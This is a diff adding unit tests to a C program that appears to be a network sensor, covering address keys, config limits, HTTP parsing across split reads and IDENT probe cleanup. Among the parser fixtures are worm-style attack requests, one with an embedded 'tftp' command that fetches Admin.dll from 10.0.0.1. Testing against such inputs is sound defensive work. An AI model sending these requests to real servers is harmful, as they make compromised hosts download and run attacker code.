@@ -3,11 +3,15 @@
 #include <fcntl.h>
 #include <jansson.h>
 #include <signal.h>
+#include <sqlite3.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <arpa/inet.h>
 #include <sys/resource.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
+#include <time.h>
 #include <unistd.h>
 
 #include "addr.h"
@@ -128,6 +132,44 @@ static void test_addrs(void)
 	addr_parse("[::ffff:10.1.2.3]:99", &m);
 	CHECK(strcmp(addr_ip(&m, ip, sizeof(ip)), "10.1.2.3") == 0, "mapped %s", ip);
 	CHECK(addr_port(&m) == 99, "port %u", addr_port(&m));
+}
+
+static void test_source_keys(void)
+{
+	static const struct {
+		const char *a, *b;
+		bool same;           /* one source */
+	} cases[] = {
+		{"1.2.3.4:1", "[::ffff:1.2.3.4]:2", true},
+		{"1.2.3.4:1", "1.2.3.4:9", true},
+		{"1.2.3.4:1", "1.2.3.5:1", false},
+		{"[2001:db8::1]:1", "[2001:db8::2]:1", true},
+		{"[2001:db8::1]:1", "[2001:db8:0:0:8000::1]:1", true},
+		{"[2001:db8::1]:1", "[2001:db8:0:1::1]:1", false},
+		{"[2001:db8::1]:1", "[2001:db9::1]:1", false},
+		{"[::1]:1", "[::2]:1", true},
+		{"[::1.2.3.4]:1", "1.2.3.4:1", false},      /* v4-compatible is IPv6 */
+		{"[::ffff:0.0.0.0]:1", "[::]:1", false},
+		{"0.0.0.0:1", "[::]:1", false},
+	};
+
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		struct addr a, b;
+		uint8_t ka[ADDR_KEY_LEN], kb[ADDR_KEY_LEN];
+		CHECK(addr_parse(cases[i].a, &a) == 0 && addr_parse(cases[i].b, &b) == 0,
+		    "key case %zu parses", i);
+		addr_source_key(&a, ka);
+		addr_source_key(&b, kb);
+		CHECK((memcmp(ka, kb, ADDR_KEY_LEN) == 0) == cases[i].same,
+		    "key case %zu: %s and %s", i, cases[i].a, cases[i].b);
+	}
+	struct addr v4;
+	uint8_t k[ADDR_KEY_LEN];
+	static const uint8_t want[ADDR_KEY_LEN] = {0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff,
+	    1, 2, 3, 4};
+	addr_parse("1.2.3.4:80", &v4);
+	addr_source_key(&v4, k);
+	CHECK(memcmp(k, want, ADDR_KEY_LEN) == 0, "an IPv4 key is ::ffff:a.b.c.d");
 }
 
 static void test_timestamps_and_ids(void)
@@ -297,6 +339,9 @@ static void test_config(void)
 		{"on-timeout = maybe\n", 0, "not drop, goaway or reset"},
 		{"goaway-text = bad\\q\n", 0, "unknown escape"},
 		{"workers = 0\n", 0, "workers: '0'"},
+		{"max-payload = 1000000000\n", 1, NULL},
+		{"max-payload = 1000000001\n", 0, ":1: max-payload: '1000000001' is over 1000000000"},
+		{"max-payload = 2G\n", 0, ":1: max-payload: '2G' is over 1000000000"},
 		{"sensor = lab\x1b]0;x\n", 0, ":1: sensor: name must be 1 to 64 printable ASCII"},
 		{"sensor = lab\xc3\xa9\n", 0, ":1: sensor: name must be 1 to 64 printable ASCII"},
 	};
@@ -316,6 +361,14 @@ static void test_config(void)
 			    "config case %zu message '%s', want '%s'", i, err, cases[i].err);
 		config_free(&cfg);
 	}
+
+	/* The largest --max-payload is a BLOB the linked SQLite stores. */
+	sqlite3 *db = NULL;
+	CHECK(sqlite3_open(":memory:", &db) == SQLITE_OK &&
+	    sqlite3_limit(db, SQLITE_LIMIT_LENGTH, -1) >= CONFIG_MAX_PAYLOAD_MAX,
+	    "SQLite's length limit %d is under --max-payload's maximum",
+	    db ? sqlite3_limit(db, SQLITE_LIMIT_LENGTH, -1) : -1);
+	sqlite3_close(db);
 
 	/* Flags win over the file; --listen replaces the file's list. */
 	struct config cfg;
@@ -596,6 +649,10 @@ static bool span_is(const char *buf, struct http_span sp, const char *want)
 	return sp.len == strlen(want) && memcmp(buf + sp.off, want, sp.len) == 0;
 }
 
+struct track_result;
+static int track_splits_differ(const char *text, size_t len, size_t head_max,
+    struct track_result *whole);
+
 static void test_http_parser(void)
 {
 	static const struct {
@@ -634,6 +691,8 @@ static void test_http_parser(void)
 		int64_t want = cases[i].rc > 0 ? (int64_t)strlen(t) : cases[i].rc;
 		CHECK(rc == want, "http case %zu: rc %lld want %lld", i, (long long)rc,
 		    (long long)want);
+		CHECK(track_splits_differ(t, strlen(t), 256 * 1024, NULL) == 0,
+		    "http case %zu: a split feed reads differently", i);
 		if (rc <= 0 || want <= 0)
 			continue;
 		CHECK(span_is(t, req.method, cases[i].method), "case %zu method", i);
@@ -657,16 +716,244 @@ static void test_http_parser(void)
 	struct http_request req;
 	CHECK(http_parse_request(full, n, &req) == (int64_t)n && req.content_length == 5,
 	    "content length");
+}
 
-	/* The head finder, fed a byte at a time, finds the same end. */
-	size_t hint = 0, found = 0;
-	for (size_t k = 1; k <= n && !found; k++)
-		found = http_find_head_end(full, k, &hint);
-	CHECK(found == n, "head end %zu want %zu", found, n);
-	hint = 0;
-	CHECK(http_find_head_end("\r\n\r\nGET / HTTP/1.0\n\n", 20, &hint) == 20, "leading blank lines");
-	hint = 0;
-	CHECK(http_find_head_end("GET / HTTP/1.0\r\nA: b\r\n", 22, &hint) == 0, "no end yet");
+/* ---- HTTP tracking across reads ------------------------------------- */
+
+#define TRACK_KEEP 8                 /* requests compared per input */
+#define TRACK_OK 0
+#define TRACK_PARTIAL 1
+#define TRACK_UNPARSED 2
+
+struct track_result {
+	int n;                       /* requests found */
+	struct {
+		size_t at;
+		int64_t len;
+		struct http_request req;
+		uint64_t body;
+	} r[TRACK_KEEP];
+	int state;                   /* TRACK_OK, TRACK_PARTIAL, TRACK_UNPARSED */
+};
+
+/* Feeds text[0..len) to a stream tracker as a session does: the buffer
+ * grows (to exactly the bytes received, so ASan sees any over-read) at each
+ * of the ncuts cut points, then to len; after each growth the tracker is
+ * asked until it has no complete request left. */
+static void track(const char *text, size_t len, const size_t *cuts, size_t ncuts,
+    size_t head_max, struct track_result *out)
+{
+	struct http_stream st = {0};
+	char *buf = NULL;
+	size_t have = 0;
+
+	memset(out, 0, sizeof(*out));
+	for (size_t c = 0; c <= ncuts; c++) {
+		size_t upto = c < ncuts ? cuts[c] : len;
+		if (upto < have)
+			continue;
+		char *grown = realloc(buf, upto ? upto : 1);
+		if (!grown)
+			abort();
+		buf = grown;
+		memcpy(buf + have, text + have, upto - have);
+		have = upto;
+		for (;;) {
+			struct http_request req;
+			size_t at = 0;
+			uint64_t body = 0;
+			int64_t rc = http_stream_next(&st, buf, have, head_max, &req, &at, &body);
+			if (body && out->n && out->n <= TRACK_KEEP)
+				out->r[out->n - 1].body += body;
+			if (rc <= 0)
+				break;
+			if (out->n < TRACK_KEEP) {
+				out->r[out->n].at = at;
+				out->r[out->n].len = rc;
+				out->r[out->n].req = req;
+			}
+			out->n++;
+		}
+	}
+	out->state = st.invalid ? TRACK_UNPARSED
+	    : http_stream_complete(&st, len) ? TRACK_OK : TRACK_PARTIAL;
+	free(buf);
+}
+
+static bool span_eq(struct http_span a, struct http_span b)
+{
+	return a.off == b.off && a.len == b.len;
+}
+
+static bool track_eq(const struct track_result *a, const struct track_result *b)
+{
+	if (a->n != b->n || a->state != b->state)
+		return false;
+	for (int i = 0; i < a->n && i < TRACK_KEEP; i++) {
+		const struct http_request *x = &a->r[i].req, *y = &b->r[i].req;
+		if (a->r[i].at != b->r[i].at || a->r[i].len != b->r[i].len ||
+		    a->r[i].body != b->r[i].body || !span_eq(x->method, y->method) ||
+		    !span_eq(x->target, y->target) || !span_eq(x->version, y->version) ||
+		    !span_eq(x->headers, y->headers) || !span_eq(x->host, y->host) ||
+		    !span_eq(x->user_agent, y->user_agent) ||
+		    x->content_length != y->content_length || x->chunked != y->chunked ||
+		    x->keep_alive != y->keep_alive || x->head_only != y->head_only)
+			return false;
+	}
+	return true;
+}
+
+/* Every split of text in two, and a byte-by-byte feed, give the one-shot
+ * result (stored in *whole unless NULL). Returns the number of feeds that
+ * differed. */
+static int track_splits_differ(const char *text, size_t len, size_t head_max,
+    struct track_result *whole)
+{
+	struct track_result part, own;
+	size_t *cuts = malloc((len + 1) * sizeof(*cuts));
+	int bad = 0;
+
+	if (!whole)
+		whole = &own;
+
+	track(text, len, NULL, 0, head_max, whole);
+	for (size_t k = 0; k <= len; k++) {
+		track(text, len, &k, 1, head_max, &part);
+		bad += !track_eq(whole, &part);
+		cuts[k] = k;
+	}
+	track(text, len, cuts, len + 1, head_max, &part);
+	bad += !track_eq(whole, &part);
+	free(cuts);
+	return bad;
+}
+
+/* A number below n from a fixed-seed generator (Knuth's MMIX LCG). */
+static size_t lcg_below(uint64_t *seed, size_t n)
+{
+	*seed = *seed * 6364136223846793005ULL + 1442695040888963407ULL;
+	return (size_t)((*seed >> 33) % n);
+}
+
+static void test_http_splits(void)
+{
+	static const struct {
+		const char *text;
+		size_t len;          /* 0: strlen */
+		int nreq, state;     /* the one-shot result */
+		uint64_t body;       /* body bytes of the first request */
+	} cases[] = {
+		{"GET / HTTP/1.0\r\n\r\n", 0, 1, TRACK_OK, 0},
+		{"\n\n\nGET /split HTTP/1.0\r\n\r\n", 0, 1, TRACK_OK, 0},   /* the issue's */
+		{"\r\n\r\nHEAD /x HTTP/1.1\r\nUser-Agent: z\r\n\r\n", 0, 1, TRACK_OK, 0},
+		{"\r\r\r\nGET / HTTP/1.0\n\n", 0, 1, TRACK_OK, 0},
+		{"\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nGET / HTTP/1.0\n\n", 0, 1, TRACK_OK, 0},
+		{"\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nGET / HTTP/1.0\n\n", 0, 0, TRACK_UNPARSED, 0},
+		{"\n", 0, 0, TRACK_PARTIAL, 0},
+		{"GET /path\r\n", 0, 1, TRACK_OK, 0},
+		{"GET /path\r\n\r\n", 0, 1, TRACK_PARTIAL, 0},
+		{"GET / HTTP/1.0\n\r\n", 0, 1, TRACK_OK, 0},
+		{"GET / HTTP/1.0\r\nA: b\r\n\rX\r\n\r\n", 0, 1, TRACK_OK, 0},
+		{"GET / HTTP/1.1\r\nHost: a\r\n X-Folded: y\r\nUser-Agent: u\r\n\r\n", 0, 1, TRACK_OK, 0},
+		{"GET /scripts/root.exe?/c+tftp -i 10.0.0.1 GET Admin.dll Admin.dll HTTP/1.0\r\n\r\n",
+		 0, 1, TRACK_OK, 0},
+		{"POST /p HTTP/1.1\r\nContent-Length: 4\r\n\r\nabcdGET /q HTTP/1.0\r\n\r\n", 0, 2, TRACK_OK, 4},
+		{"POST /p HTTP/1.1\r\nContent-Length: 10\r\n\r\nabcd", 0, 1, TRACK_PARTIAL, 4},
+		{"POST / HTTP/1.0\r\nContent-Length: 2\r\n\r\nab\r\nGET / HTTP/1.0\r\n\r\n", 0, 2, TRACK_OK, 2},
+		{"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n", 0, 1, TRACK_OK, 0},
+		{"GET /a HTTP/1.1\r\nHost: x\r\n\r\nGET /b HTTP/1.1\r\nHost: x\r\n\r\nGET /c HTTP/1.1\r\n\r\n",
+		 0, 3, TRACK_OK, 0},
+		{"GET / HTTP/1.0\r\n\r\nSSH-2.0-x\r\n", 0, 1, TRACK_UNPARSED, 0},
+		{"GET / HTTP/1.1\r\nHost: a\r\n", 0, 0, TRACK_PARTIAL, 0},
+		{"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 0, 0, TRACK_UNPARSED, 0},
+		{"GET / XTTP/1.0\r\n\r\n", 0, 0, TRACK_UNPARSED, 0},
+		{"GET\n\n", 0, 0, TRACK_UNPARSED, 0},
+		{"GET \n\n", 0, 0, TRACK_UNPARSED, 0},
+		{"ABCDEFGHIJKLMNOPQRSTUVWXYZABCDEF / HTTP/1.0\r\n\r\n", 0, 1, TRACK_OK, 0},
+		{"ABCDEFGHIJKLMNOPQRSTUVWXYZABCDEFG / HTTP/1.0\r\n\r\n", 0, 0, TRACK_UNPARSED, 0},
+		{"GET /\0x HTTP/1.0\r\n\r\n", 20, 1, TRACK_OK, 0},
+		{"\r\nGET /a HTTP/1.0\r\n\r\n\r\n\r\nGET /b HTTP/1.0\r\n\r\n", 0, 2, TRACK_OK, 0},
+	};
+	struct track_result whole;
+	int bad;
+
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		const char *t = cases[i].text;
+		size_t len = cases[i].len ? cases[i].len : strlen(t);
+		bad = track_splits_differ(t, len, 256 * 1024, &whole);
+		CHECK(bad == 0, "split case %zu: %d feeds differ from one write", i, bad);
+		CHECK(whole.n == cases[i].nreq && whole.state == cases[i].state,
+		    "split case %zu: %d requests, state %d", i, whole.n, whole.state);
+		CHECK(whole.n == 0 || whole.r[0].body == cases[i].body,
+		    "split case %zu: body %llu", i, (unsigned long long)whole.r[0].body);
+		/* A cap on the head's length is decided the same way. */
+		for (size_t cap = 8; cap <= 64; cap += 8) {
+			bad = track_splits_differ(t, len, cap, &whole);
+			CHECK(bad == 0, "split case %zu, head cap %zu: %d feeds differ", i, cap, bad);
+		}
+	}
+	/* The head cap: a head of exactly the cap is a request, one byte more
+	 * is not, however the bytes come. */
+	const char *capped = "GET / HTTP/1.0\r\n\r\n";
+	track_splits_differ(capped, 18, 18, &whole);
+	CHECK(whole.n == 1 && whole.state == TRACK_OK, "a head of the cap's length");
+	track_splits_differ(capped, 18, 17, &whole);
+	CHECK(whole.n == 0 && whole.state == TRACK_UNPARSED, "a head over the cap");
+
+	/* Randomised requests (leading blank lines, both line ends, bodies,
+	 * pipelining, a damaged byte now and then), fixed seed. */
+	static const char *const leads[] = {"", "", "\r\n", "\n", "\r\n\r\n", "\n\n\n"};
+	static const char *const methods[] = {"GET", "POST", "HEAD", "G(T", "PROPFIND"};
+	static const char *const targets[] = {"/", "/x?a=b c", "/default.ida?NNNN"};
+	static const char *const versions[] = {" HTTP/1.0", " HTTP/1.1", " HTTP/1.1", "",
+	    " XTTP/1.0"};
+	static const char *const eols[] = {"\r\n", "\n"};
+	static const char *const headers[] = {"Host: h", "Content-Length: 3",
+	    "Connection: close", " folded", "User-Agent: u", "X"};
+	uint64_t seed = 0x7f1a9e3b5c2d4e6fULL;
+#define RANDOM(n) lcg_below(&seed, n)
+#define PICK(a) a[RANDOM(sizeof(a) / sizeof(a[0]))]
+#define PUT(str) do { const char *s_ = (str); size_t l_ = strlen(s_); \
+	if (len + l_ < sizeof(text)) { memcpy(text + len, s_, l_); len += l_; } } while (0)
+	int differing = 0, inputs = 0, requests = 0;
+	for (int i = 0; i < 200; i++) {
+		char text[512];
+		size_t len = 0;
+		for (size_t r = 0, nr = 1 + RANDOM(3); r < nr; r++) {
+			const char *eol = PICK(eols), *version = PICK(versions);
+			bool body = false;
+			PUT(PICK(leads));
+			PUT(PICK(methods));
+			PUT(" ");
+			PUT(PICK(targets));
+			PUT(version);
+			PUT(eol);
+			if (!*version)
+				continue;
+			for (size_t h = 0, nh = RANDOM(4); h < nh; h++) {
+				const char *line = PICK(headers);
+				body |= line[0] == 'C' && line[1] == 'o' && line[2] == 'n' && line[3] == 't';
+				PUT(line);
+				PUT(eol);
+			}
+			PUT(eol);
+			if (body)
+				PUT("abc");
+		}
+		if (RANDOM(8) == 0 && len) {
+			size_t at = RANDOM(len);
+			text[at] = "\r\n \0x"[RANDOM(5)];
+		}
+		differing += track_splits_differ(text, len, 256 * 1024, &whole) != 0;
+		requests += whole.n;
+		inputs++;
+	}
+#undef RANDOM
+#undef PICK
+#undef PUT
+	CHECK(differing == 0, "%d of %d random inputs read differently when split", differing,
+	    inputs);
+	CHECK(requests > 50, "the random inputs held only %d requests", requests);
 }
 
 static void test_ident_parser(void)
@@ -736,6 +1023,133 @@ static void test_ident_limiter(void)
 	CHECK(allowed <= 8, "a table of 8 allowed %d fresh sources", allowed);
 	CHECK(!ident_limiter_allow(l, &a, 64 * s), "still limited while the table is full");
 	ident_limiter_free(l);
+
+	/* One source: an IPv4 host and its v4-mapped form; an IPv6 /64. */
+	static const struct {
+		const char *first, *then;
+		bool again;          /* then may be probed right after first */
+	} sources[] = {
+		{"127.0.0.1:1", "[::ffff:127.0.0.1]:2", false},
+		{"[::ffff:10.9.8.7]:1", "10.9.8.7:2", false},
+		{"[2001:db8::1]:1", "[2001:db8::2]:1", false},
+		{"[2001:db8::1]:1", "[2001:db8::ffff:ffff:ffff:ffff]:1", false},
+		{"[2001:db8::1]:1", "[2001:db8:0:1::1]:1", true},
+		{"10.0.0.1:1", "10.0.0.2:1", true},
+		{"[::ffff:10.0.0.1]:1", "[::ffff:10.0.0.2]:1", true},
+		{"[::10.0.0.1]:1", "10.0.0.1:1", true},
+	};
+	for (size_t i = 0; i < sizeof(sources) / sizeof(sources[0]); i++) {
+		struct addr x, y;
+		l = ident_limiter_new(64, 60 * s);
+		CHECK(addr_parse(sources[i].first, &x) == 0 && addr_parse(sources[i].then, &y) == 0,
+		    "source case %zu parses", i);
+		CHECK(ident_limiter_allow(l, &x, 1 * s), "source case %zu: first probe", i);
+		CHECK(ident_limiter_allow(l, &y, 2 * s) == sources[i].again,
+		    "source case %zu: %s after %s", i, sources[i].then, sources[i].first);
+		ident_limiter_free(l);
+	}
+}
+
+/* A listening socket on 127.0.0.1 (never accepting when silent); returns
+ * its fd and port. */
+static int loopback_listener(uint16_t *port)
+{
+	struct sockaddr_in sin = {.sin_family = AF_INET};
+	socklen_t len = sizeof(sin);
+	int fd = socket(AF_INET, SOCK_STREAM, 0);
+
+	sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+	if (fd < 0 || bind(fd, (struct sockaddr *)&sin, sizeof(sin)) < 0 || listen(fd, 8) < 0 ||
+	    getsockname(fd, (struct sockaddr *)&sin, &len) < 0)
+		abort();
+	*port = ntohs(sin.sin_port);
+	return fd;
+}
+
+/* Runs w's loop without blocking until done() or about 3 s. */
+static void run_until(struct worker *w, bool (*done)(struct worker *))
+{
+	for (int i = 0; i < 300 && !done(w); i++) {
+		uv_run(&w->loop, UV_RUN_NOWAIT);
+		usleep(10000);
+	}
+}
+
+static bool no_probes(struct worker *w)
+{
+	return list_empty(&w->probes);
+}
+
+static bool no_sessions(struct worker *w)
+{
+	return atomic_load(&w->shared->active) == 0;
+}
+
+/* A session whose record cannot be built (out of memory) while its IDENT
+ * probe is under way, or after the probe ended: the probe must not keep a
+ * pointer to the freed session, and nothing may leak. */
+static void test_ident_when_the_record_is_lost(void)
+{
+	static struct worker w;
+	for (int finished = 0; finished < 2; finished++) {
+		struct worker_shared sh;
+		struct writer wr;
+		struct config cfg;
+		char err[256];
+		uint16_t lport, iport;
+		int lfd = loopback_listener(&lport);
+		int ifd = loopback_listener(&iport);
+
+		if (finished)
+			close(ifd);  /* the probe is refused at once */
+		memset(&wr, 0, sizeof(wr));
+		config_defaults(&cfg);
+		cfg.ident_probability = 1.0;
+		cfg.ident_port = iport;
+		cfg.ident_timeout_ms = 2000;
+		CHECK(queue_init(&wr.queue, 16, 1 << 20) == 0, "queue");
+		CHECK(worker_shared_init(&sh, &cfg, &wr, MODE_SERVE, err, sizeof(err)) == 0,
+		    "shared: %s", err);
+		CHECK(worker_init(&w, &sh, NULL, NULL, 0, err, sizeof(err)) == 0, "worker: %s", err);
+
+		struct sockaddr_in sin = {.sin_family = AF_INET, .sin_port = htons(lport)};
+		sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+		int cfd = socket(AF_INET, SOCK_STREAM, 0);
+		CHECK(connect(cfd, (struct sockaddr *)&sin, sizeof(sin)) == 0, "connect");
+		int afd = accept4(lfd, NULL, NULL, SOCK_NONBLOCK);
+		struct sockaddr_storage ss;
+		socklen_t sl = sizeof(ss);
+		struct addr src, dst;
+		struct timespec wall;
+		getpeername(afd, (struct sockaddr *)&ss, &sl);
+		addr_from_sockaddr(&src, (struct sockaddr *)&ss, sl);
+		sl = sizeof(ss);
+		getsockname(afd, (struct sockaddr *)&ss, &sl);
+		addr_from_sockaddr(&dst, (struct sockaddr *)&ss, sl);
+		clock_gettime(CLOCK_REALTIME, &wall);
+
+		session_start(&w, afd, 0, &src, &dst, uv_hrtime(), &wall);
+		CHECK(!list_empty(&w.probes), "case %d: a probe is under way", finished);
+		if (finished) {
+			run_until(&w, no_probes);
+			CHECK(list_empty(&w.probes), "case %d: the refused probe ended", finished);
+		}
+		session_test_fail_records = 1;
+		close(cfd);          /* the peer leaves; its record cannot be built */
+		run_until(&w, no_sessions);
+		session_test_fail_records = 0;
+		CHECK(atomic_load(&sh.active) == 0, "case %d: the session closed", finished);
+		CHECK(list_empty(&w.probes) && atomic_load(&sh.ident_inflight) == 0,
+		    "case %d: a probe outlived the session whose record was lost", finished);
+		ident_abort_all(&w); /* as at shutdown */
+		worker_destroy(&w);
+		worker_shared_free(&sh);
+		queue_destroy(&wr.queue);
+		config_free(&cfg);
+		close(lfd);
+		if (!finished)
+			close(ifd);
+	}
 }
 
 static void test_experiment_assignment(void)
@@ -835,6 +1249,7 @@ int main(void)
 	test_durations();
 	test_sizes();
 	test_addrs();
+	test_source_keys();
 	test_timestamps_and_ids();
 	test_queue_caps();
 	test_escape();
@@ -843,8 +1258,10 @@ int main(void)
 	test_jsonl_cut_writes();
 	test_timeouts();
 	test_http_parser();
+	test_http_splits();
 	test_ident_parser();
 	test_ident_limiter();
+	test_ident_when_the_record_is_lost();
 	test_experiment_assignment();
 	test_personalities();
 	printf("unit: %d passed, %d failed\n", passed, failed);
